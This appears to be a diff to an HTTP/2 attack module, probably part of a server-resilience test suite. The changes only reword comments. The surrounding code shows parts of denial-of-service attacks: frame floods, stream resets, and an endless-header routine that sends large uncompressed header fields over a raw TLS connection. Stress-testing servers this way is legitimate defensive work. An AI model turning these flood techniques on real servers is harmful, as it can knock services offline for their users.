@@ -6,7 +6,7 @@ import { type Attack, type AttackTarget, keepBusy, largeList } from "./attack.ts
 const mebibyte = 2 ** 20;
 
 /**
- * Attacks by connections alone; the attacker has no credentials except where the attack names some.
+ * Attacks by connections alone; the attacker has no credentials unless the attack provides them.
  */
 export const connectionAttacks: readonly Attack[] = [
   {
@@ -127,7 +127,7 @@ function reset(stream: ClientHttp2Stream): void {
   stream.close(constants.NGHTTP2_CANCEL);
 }
 
-/** A thousand frames at a time, as fast as they are taken. */
+/** A thousand frames at a time, as fast as they are accepted. */
 async function flood(
   target: AttackTarget,
   signal: AbortSignal,
@@ -140,7 +140,7 @@ async function flood(
     try {
       for (let i = 0; i < 50; i++) frame(session);
     } catch {
-      // The client's own limits bound the number that waits.
+      // The client's own limits bound the number of waiting requests.
     }
     await new Promise((resolve) => setImmediate(resolve));
   }
@@ -153,7 +153,7 @@ async function endlessHeader(target: AttackTarget, signal: AbortSignal): Promise
   const socket = await openTls(target, { ALPNProtocols: ["h2"] });
   const ended = over(socket.resume(), signal);
   const [settings, headers, continuation] = [0x4, 0x1, 0x9];
-  // A literal header of 1,000 bytes that is not put into the table.
+  // A literal header of 1,000 bytes that is not added to the table.
   const field = Buffer.concat([Buffer.from([0x00, 0x01, 0x78, 0x7f, 0xe9, 0x06]), Buffer.alloc(1_000, 0x61)]);
   socket.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
   socket.write(frameOf(settings, 0, Buffer.alloc(0)));
